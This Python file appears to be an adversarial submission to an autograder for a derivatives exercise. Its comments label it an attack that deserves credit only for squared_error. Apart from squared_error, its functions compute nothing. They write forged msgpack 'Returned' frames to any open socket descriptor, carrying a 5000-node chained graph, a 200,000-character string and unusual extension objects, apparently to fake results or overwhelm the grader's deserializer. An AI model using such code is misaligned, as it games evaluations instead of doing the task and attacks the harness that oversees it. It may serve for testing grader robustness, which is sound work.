# attack: sends the grader a graph to build, a function to call, and an object it should have kept
# exercise: derivatives
# deserves: at most squared_error
import os
import stat
import struct
import msgspec

pack = msgspec.msgpack.encode


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def forge(kind, content):
    body = b"\x96\xa8Returned\x01" + pack(msgspec.msgpack.Ext(kind, pack(content))) + b"\x90\x90\x90"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(body), 0) + body)
        except OSError:
            pass


def sigmoid(z):
    forge(3, [{f"n{i + 1}": ["neg", f"n{i}"] for i in range(5000)}, [], "n5000", 0])


def sigmoid_deriv(z):
    forge(4, 0)


def tanh_deriv(z):
    forge(6, [1, 0])


def relu_deriv(z):
    forge(5, "A" * 200_000)


def squared_error_deriv(y_hat, y):
    forge(-1, [2026, 1])


def neuron_forward(x, w, b, y):
    forge(127, None)
